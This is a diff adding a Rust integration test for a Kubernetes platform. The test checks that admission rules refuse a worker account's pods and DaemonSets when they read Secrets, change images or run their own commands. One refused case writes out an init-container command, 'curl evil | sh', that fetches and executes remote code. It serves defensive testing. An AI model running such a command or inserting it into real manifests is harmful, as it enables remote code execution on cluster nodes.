@@ -267,3 +267,76 @@ async fn session_pods_keep_to_the_pools_priority_and_runtime_class_and_inject_no
     let patch = json!({ "metadata": { "annotations": { "note": "mine" } } });
     assert_eq!(outcome(pods.patch("pending", &dry, &kube::api::Patch::Merge(&patch)).await), Ok(()));
 }
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_workers_account_runs_only_pinned_placeholders_and_the_image_cache_in_berths_namespace() {
+    use server::worker::manifests::ahead::{self, AheadMode, ScaleAhead};
+    use server::worker::manifests::{image_cache_daemon_set, ImageCache};
+    let Some(stack) = stack() else { return };
+    let worker = stack.client(As::Worker).await;
+    let session = session::session("team-w", "5f0e0d0c-0b0a-4908-8706-050403020100", MIG, &[("berth.io/pool", "a")]);
+    let pause = "registry.k8s.io/pause:3.10";
+    let scale =
+        ScaleAhead { lead: chrono::Duration::minutes(30), mode: AheadMode::Placeholder, pause_image: pause.into() };
+    let placeholder = ahead::objects(&session, &cluster(), &scale).remove(0);
+    let cache = ImageCache {
+        images: vec![],
+        registries: vec!["nvcr.io/nvidia".into()],
+        node_selector: [("nvidia.com/gpu.present".to_string(), "true".to_string())].into(),
+        pause_image: pause.into(),
+    };
+    let digest = "a".repeat(64);
+    let images = [format!("nvcr.io/nvidia/pytorch@sha256:{digest}")];
+    let daemon_set = serde_json::to_value(image_cache_daemon_set("berth", &cache, &images)).unwrap();
+    assert_eq!(create(&worker, "berth", placeholder.clone()).await, Ok(()), "a booking's placeholder");
+    assert_eq!(create(&worker, "berth", daemon_set.clone()).await, Ok(()), "the image cache");
+
+    // The portal's pods, as the worker would make them to take its traffic.
+    let mut portal_labels = placeholder.clone();
+    portal_labels["spec"]["template"]["metadata"]["labels"]["app.kubernetes.io/name"] = json!("berth-portal");
+    let mut with_secrets = placeholder.clone();
+    with_secrets["spec"]["template"]["spec"]["containers"][0]["envFrom"] =
+        json!([{ "secretRef": { "name": "berth-database" } }]);
+    let mut with_volume = placeholder.clone();
+    with_volume["spec"]["template"]["spec"]["volumes"] =
+        json!([{ "name": "oidc", "secret": { "secretName": "berth-oidc" } }]);
+    let mut other_image = placeholder.clone();
+    other_image["spec"]["template"]["spec"]["containers"][0]["image"] =
+        json!("registry.example.org/platform/berth:0.1.0");
+    let mut second = placeholder.clone();
+    let mut extra = second["spec"]["template"]["spec"]["containers"][0].clone();
+    extra["name"] = json!("sidecar");
+    second["spec"]["template"]["spec"]["containers"].as_array_mut().unwrap().push(extra);
+    let mut with_command = placeholder.clone();
+    with_command["spec"]["template"]["spec"]["containers"][0]["command"] = json!(["/bin/sh", "-c", "serve"]);
+    let mut as_portal = placeholder.clone();
+    as_portal["spec"]["template"]["spec"]["serviceAccountName"] = json!("berth-portal");
+    for (case, object) in [
+        ("pods labelled as the portal's (its Service's selector)", portal_labels),
+        ("pods reading the database Secret", with_secrets),
+        ("pods mounting the OIDC Secret", with_volume),
+        ("another image", other_image),
+        ("a second container", second),
+        ("a command of its own", with_command),
+        ("the portal's account", as_portal),
+    ] {
+        refused_with(case, create(&worker, "berth", object).await, "placeholder");
+    }
+    let mut ds_as_portal = daemon_set.clone();
+    ds_as_portal["spec"]["template"]["spec"]["serviceAccountName"] = json!("berth-portal");
+    let mut ds_named = daemon_set.clone();
+    ds_named["metadata"]["name"] = json!("node-agent");
+    let mut ds_pull_runs = daemon_set.clone();
+    ds_pull_runs["spec"]["template"]["spec"]["initContainers"][0]["command"] = json!(["sh", "-c", "curl evil | sh"]);
+    let mut ds_secret = daemon_set.clone();
+    ds_secret["spec"]["template"]["spec"]["containers"][0]["envFrom"] =
+        json!([{ "secretRef": { "name": "berth-oidc" } }]);
+    for (case, object) in [
+        ("a DaemonSet as the portal's account", ds_as_portal),
+        ("a DaemonSet that is not the image cache", ds_named),
+        ("an image pull that runs something", ds_pull_runs),
+        ("the image cache reading a Secret", ds_secret),
+    ] {
+        refused_with(case, create(&worker, "berth", object).await, "the image cache (berth-image-cache)");
+    }
+}
